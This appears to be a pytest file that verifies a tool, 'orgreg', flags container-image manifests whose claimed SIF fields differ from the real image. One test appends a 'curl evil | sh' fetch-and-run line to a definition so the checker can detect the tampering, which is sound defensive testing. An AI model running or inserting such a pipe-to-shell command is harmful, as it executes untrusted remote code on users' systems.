"""With the image in hand, every field of a manifest's ``sif:`` block is compared
with what the SIF reader finds (issue 23, item 2): the honest block passes, any
changed field fails naming the manifest and the field.

The images are Debian's sylabs/sif test images and ones built object by object
by tests/hostile/sif/make_cases.py, served on 127.0.0.1; manifests are written
by ``orgreg manifest`` and then edited as a contributor could.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import struct
from pathlib import Path

import pytest
import yaml
from clitools import orgreg
from conftest import require_system_tool

IMAGES = Path(
    os.environ.get("ORGREG_SIF_SRC", "/usr/share/gocode/src/github.com/sylabs/sif"), "test/images"
)
HOSTILE_SIF = Path(__file__).resolve().parent / "hostile" / "sif"
FAST = ("--timeout", "5", "--retries", "0", "--format", "json", "--no-progress")
DEFINITION = "Bootstrap: docker\nFrom: alpine:3.20\n%post\n" + "    echo step\n" * 12000


def built_image(path: Path) -> Path:
    """A SIF image with a definition file (too large for a manifest), labels and
    a squashfs partition, made by make_cases.py."""
    spec = importlib.util.spec_from_file_location("make_cases", HOSTILE_SIF / "make_cases.py")
    assert spec is not None and spec.loader is not None
    cases = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(cases)
    labels = {"org.label-schema.version": "1.2", "count": 3}
    path.write_bytes(
        cases.image(
            [
                (0x4001, b"", DEFINITION.encode()),
                (0x4003, b"", json.dumps(labels).encode()),
                (0x4004, struct.pack("<ii3s", 1, 2, b"04\x00"), b"hsqs" + bytes(60)),
            ]
        )
    )
    return path


def write(tree: Path, image: Path, url: str) -> Path:
    tree.mkdir(exist_ok=True)
    done = orgreg(
        "manifest",
        image,
        "--namespace",
        "acme/claims",
        "--url",
        url,
        "--tag",
        "v1",
        "--created",
        "none",
        "--root",
        tree,
    )
    assert done.code == 0, done.err
    return tree / "acme/claims/manifests/v1/README.md"


def edit(path: Path, change) -> None:
    front = yaml.safe_load(path.read_text().split("---\n")[1])
    change(front["sif"])
    path.write_text("---\n" + yaml.safe_dump(front, sort_keys=False) + "---\n")


def claim_problems(done) -> list[str]:
    return [p["message"] for p in done.json()["problems"] if p["code"] == "sif-claim"]


@pytest.fixture
def two_groups(served: tuple[Path, str]) -> tuple[Path, str]:
    require_system_tool(str(IMAGES), "apt-get install golang-github-sylabs-sif-dev")
    folder, base = served
    shutil.copy(IMAGES / "one-group-signed-legacy.sif", folder / "image.sif")
    return folder / "image.sif", f"{base}/image.sif"


def test_the_honest_block_passes(two_groups: tuple[Path, str], tmp_path: Path) -> None:
    image, url = two_groups
    write(tmp_path / "tree", image, url)
    done = orgreg("check", tmp_path / "tree", "--verify-digest", *FAST)
    assert done.code == 0, done.out
    assert claim_problems(done) == []


CHANGES = {
    "arch": (lambda b: b.update(arch="amd64"), "sif.arch = 'amd64', but the image holds"),
    "id": (
        lambda b: b.update(id="00000000-0000-4000-8000-000000000001"),
        "sif.id = '00000000-0000-4000-8000-000000000001', but the image holds "
        "'6ecc76b7-a497-4f7f-9ebd-8da2a04c6be1'",
    ),
    "created": (
        lambda b: b.update(created="2030-01-01T00:00:00Z"),
        "sif.created = '2030-01-01T00:00:00Z', but the image holds '2020-05-22T19:30:59Z'",
    ),
    "partitions": (
        lambda b: b["partitions"][0].update(size=1),
        "sif.partitions = [{'fstype': ",
    ),
    "partition-added": (
        lambda b: b["partitions"].append(dict(b["partitions"][0], role="data")),
        "sif.partitions = ",
    ),
    "sbom": (
        lambda b: b.update(sbom=[{"format": "spdx-json", "size": 10}]),
        "sif.sbom = [{'format': 'spdx-json', 'size': 10}], but the image holds nothing there",
    ),
    "labels": (
        lambda b: b.update(labels={"org.opencontainers.image.vendor": "Trusted Inc."}),
        "sif.labels = {'org.opencontainers.image.vendor': 'Trusted Inc.'}, but the image "
        "holds nothing there",
    ),
    "definition": (
        lambda b: b.update(definition="Bootstrap: docker\nFrom: trusted/base\n"),
        "sif.definition = 'Bootstrap: docker\\nFrom: trusted/base\\n', but the image holds "
        "nothing there",
    ),
}


@pytest.mark.parametrize("field", list(CHANGES))
def test_a_changed_field_fails_naming_it(
    two_groups: tuple[Path, str], tmp_path: Path, field: str
) -> None:
    image, url = two_groups
    path = write(tmp_path / "tree", image, url)
    change, message = CHANGES[field]
    edit(path, change)
    done = orgreg("check", tmp_path / "tree", "--verify-digest", *FAST)
    assert done.code == 1, done.out
    found = claim_problems(done)
    assert len(found) == 1, found
    assert f"has a layer at {url} that does not back the manifest's " in found[0]
    assert message in found[0], found[0]
    [problem] = [p for p in done.json()["problems"] if p["code"] == "sif-claim"]
    assert problem["file"].endswith("acme/claims/manifests/v1/README.md")


def test_what_orgreg_manifest_cuts_is_no_difference(
    served: tuple[Path, str], tmp_path: Path
) -> None:
    folder, base = served
    image = built_image(folder / "built.sif")
    path = write(tmp_path / "tree", image, f"{base}/built.sif")
    front = yaml.safe_load(path.read_text().split("---\n")[1])
    assert 0 < len(front["sif"]["definition"]) < len(DEFINITION)  # cut
    done = orgreg("check", tmp_path / "tree", "--verify-digest", *FAST)
    assert done.code == 0, done.out
    edit(path, lambda b: b.update(definition=b["definition"] + "    curl evil | sh\n"))
    done = orgreg("check", tmp_path / "tree", "--verify-digest", *FAST)
    assert [m.split(" = ")[0][-14:] for m in claim_problems(done)] == ["sif.definition"]
    edit(path, lambda b: b.update(definition=DEFINITION[:40]))  # cut inside a line
    assert len(claim_problems(orgreg("check", tmp_path / "tree", "--verify-digest", *FAST))) == 1


def test_labels_cut_as_a_page_shows_them_are_no_difference(
    served: tuple[Path, str], tmp_path: Path
) -> None:
    folder, base = served
    spec = importlib.util.spec_from_file_location("make_cases", HOSTILE_SIF / "make_cases.py")
    assert spec is not None and spec.loader is not None
    cases = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(cases)
    labels = {f"label{i:03d}": "v" * 2000 for i in range(100)}
    (folder / "labels.sif").write_bytes(cases.image([(0x4003, b"", json.dumps(labels).encode())]))
    path = write(tmp_path / "tree", folder / "labels.sif", f"{base}/labels.sif")
    assert len(yaml.safe_load(path.read_text().split("---\n")[1])["sif"]["labels"]) <= 64
    assert orgreg("check", tmp_path / "tree", "--verify-digest", *FAST).code == 0
    edit(path, lambda b: b["labels"].update(label000="w" * 10))
    done = orgreg("check", tmp_path / "tree", "--verify-digest", *FAST)
    assert len(claim_problems(done)) == 1 and "sif.labels = " in claim_problems(done)[0]


def test_a_sif_block_on_what_is_no_sif_fails(served: tuple[Path, str], tmp_path: Path) -> None:
    folder, base = served
    (folder / "plain.bin").write_bytes(b"not a sif" * 100_000)
    image = built_image(tmp_path / "real.sif")
    path = write(tmp_path / "tree", image, f"{base}/plain.bin")
    text = path.read_text()
    front = yaml.safe_load(text.split("---\n")[1])
    import hashlib

    data = (folder / "plain.bin").read_bytes()
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    front.update(size=len(data), digest=digest)
    front["layers"][0].update(size=len(data), digest=digest)
    path.write_text("---\n" + yaml.safe_dump(front, sort_keys=False) + "---\n")
    done = orgreg("check", tmp_path / "tree", "--verify-digest", *FAST)
    assert done.code == 1
    [message] = claim_problems(done)
    assert "claims a SIF image (sif:), but it is none" in message
